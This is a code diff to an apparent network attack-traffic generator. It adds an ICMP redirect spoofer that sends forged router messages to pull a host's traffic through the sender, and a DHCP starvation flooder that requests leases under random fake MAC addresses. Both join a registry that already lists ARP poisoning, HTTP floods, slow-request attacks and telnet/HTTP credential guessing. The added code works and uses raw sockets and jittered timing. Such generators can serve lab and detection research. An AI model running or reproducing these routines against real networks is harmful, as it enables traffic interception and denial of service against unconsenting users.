@@ -251,15 +251,64 @@ def _arp_claim(job: dict[str, Any], mac: str, ip: str, claimed_ip: str) -> bytes
     return (target + own + b"\x08\x06" + body).ljust(60, b"\0")
 
 
+async def redirect(_ports: Ports, rng: Random, job: dict[str, Any]) -> None:
+    """Tell a host in its router's name that the way to an address leads through us."""
+    end = time.monotonic() + job["seconds"]
+    own, target = (bytes.fromhex(job[name].replace(":", "")) for name in ("own_mac", "mac"))
+    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
+        raw.bind(("eth0", 0))
+        while time.monotonic() < end:
+            answer = struct.pack(">BBHHH", 0, 0, 0, rng.getrandbits(16), 1)  # Linux follows these
+            quoted = _ipv4(job["ip"], job["far_ip"], 1, answer)
+            body = struct.pack(">BBH4s", 5, 1, 0, socket.inet_aton(job["own_ip"])) + quoted
+            body = body[:2] + struct.pack(">H", _checksum(body)) + body[4:]
+            packet = _ipv4(job["router_ip"], job["ip"], 1, body)
+            raw.send(target + own + b"\x08\x00" + packet)
+            await asyncio.sleep(job["period_s"] * rng.uniform(0.9, 1.1))
+
+
+async def starve(_ports: Ports, rng: Random, job: dict[str, Any]) -> None:
+    """Ask for a lease in another name again and again."""
+    end = time.monotonic() + job["seconds"]
+    own = bytes.fromhex(job["own_mac"].replace(":", ""))
+    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
+        raw.bind(("eth0", 0))
+        while time.monotonic() < end:
+            made_up = bytes([0x02, *rng.randbytes(5)])
+            head = struct.pack(">BBBBIHH16x", 1, 1, 6, 0, rng.getrandbits(32), 0, 0x8000)
+            options = b"\x63\x82\x53\x63\x35\x01\x01\x37\x04\x01\x03\x06\x0f\xff"
+            discover = head + made_up.ljust(16, b"\0") + bytes(192) + options
+            datagram = struct.pack(">HHHH", 68, 67, 8 + len(discover), 0) + discover
+            packet = _ipv4("0.0.0.0", "255.255.255.255", 17, datagram)  # noqa: S104  (no address yet)
+            raw.send(b"\xff" * 6 + own + b"\x08\x00" + packet)
+            await asyncio.sleep(rng.uniform(0.5, 1.5) / job["rate"])
+
+
+def _ipv4(src_ip: str, dst_ip: str, protocol: int, body: bytes) -> bytes:
+    ends = socket.inet_aton(src_ip) + socket.inet_aton(dst_ip)
+    head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(body), 0, 0, 64, protocol, 0) + ends
+    return head[:10] + struct.pack(">H", _checksum(head)) + head[12:] + body
+
+
+def _checksum(data: bytes) -> int:
+    padded = data + b"\0" * (len(data) % 2)
+    total: int = sum(struct.unpack(f">{len(padded) // 2}H", padded))
+    while total >> 16:
+        total = (total & 0xFFFF) + (total >> 16)
+    return ~total & 0xFFFF
+
+
 PROGRAMS = {
     "bot": bot,
     "guess_http": guess_http,
     "guess_telnet": guess_telnet,
     "http_flood": http_flood,
     "poison": poison,
+    "redirect": redirect,
     "resend_tcp": resend_tcp,
     "resend_udp": resend_udp,
     "slow_requests": slow_requests,
+    "starve": starve,
 }
 
 
